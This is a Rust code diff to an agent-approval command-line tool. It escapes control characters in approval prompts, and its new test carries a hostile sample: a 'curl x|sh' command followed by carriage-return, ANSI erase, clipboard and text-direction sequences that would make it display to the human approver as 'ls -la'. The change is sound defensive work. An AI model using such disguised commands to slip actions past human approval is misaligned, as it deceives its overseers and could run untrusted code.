@@ -34,8 +34,12 @@ pub fn list(inv: &Invocation) -> CliResult {
     }
 }
 
-/// The text of `approvals`: a line per prompt, or a line saying there are none.
+/// The text of `approvals`: a line per prompt, or a line saying there are none. The tool and
+/// the command are the asking agent's: each is a one-line field with its control characters
+/// visible ([`crate::visible::line`]: a line break is `␤`, a CR `␍`, ESC `␛`), so an agent
+/// can neither hide what it runs nor drive the approver's terminal.
 fn render(list: &[ApprovalInfo], now_ms: u64) -> String {
+    use crate::visible::line;
     if list.is_empty() {
         return "no approvals pending\n".into();
     }
@@ -44,7 +48,11 @@ fn render(list: &[ApprovalInfo], now_ms: u64) -> String {
         let left = a.deadline_ms.saturating_sub(now_ms) / 1000;
         out.push_str(&format!(
             "{}  {}  {}: {}  (denied in {}s unless answered)\n",
-            a.id, a.identity, a.tool, a.summary, left
+            line(&a.id),
+            line(&a.identity),
+            line(&a.tool),
+            line(&a.summary),
+            left
         ));
     }
     out.push_str(
@@ -76,7 +84,11 @@ pub fn decide(inv: &Invocation, allow: bool) -> CliResult {
     match Client::connect(&paths)?.request::<ApprovalDone>(&req, |_| {})? {
         Answer::Ok(r) => {
             let verb = if allow { "approved" } else { "denied" };
-            let text = format!("{verb} {} ({})\n", r.id, r.identity);
+            let text = format!(
+                "{verb} {} ({})\n",
+                crate::visible::line(&r.id),
+                crate::visible::line(&r.identity)
+            );
             done(inv, &r, &text)
         }
         Answer::Failed(f) => Err(CliError::Refused(f)),
@@ -151,5 +163,32 @@ mod tests {
             "{text}"
         );
         assert!(text.contains("iapeer approve <id>"), "{text}");
+    }
+
+    /// Issue 26 item 4: `curl …|sh #\r\e[2Kls -la` showed as `ls -la`; OSC 52 and 8-bit
+    /// CSI reached the approver's terminal.
+    #[test]
+    fn a_command_cannot_rewrite_its_line() {
+        let a = ApprovalInfo {
+            id: "ap-0123abcd".into(),
+            identity: "claude-cb".into(),
+            personality: "cb".into(),
+            runtime: "claude".into(),
+            tool: "Bash\u{1b}[8m".into(),
+            summary: "curl x|sh #\r\u{1b}[2Kls -la\n\u{1b}]52;c;aGk=\u{7}\u{9b}2J\u{202e}".into(),
+            created_ms: 0,
+            deadline_ms: 0,
+            options: None,
+            default_option: None,
+        };
+        let text = render(&[a], 0);
+        assert!(
+            text.starts_with(
+                "ap-0123abcd  claude-cb  Bash␛[8m: curl x|sh #␍␛[2Kls -la␤␛]52;c;aGk=␇<U+009B>2J\
+                 <U+202E>  (denied in 0s"
+            ),
+            "{text}"
+        );
+        assert_eq!(text.lines().count(), 2, "{text}");
     }
 }
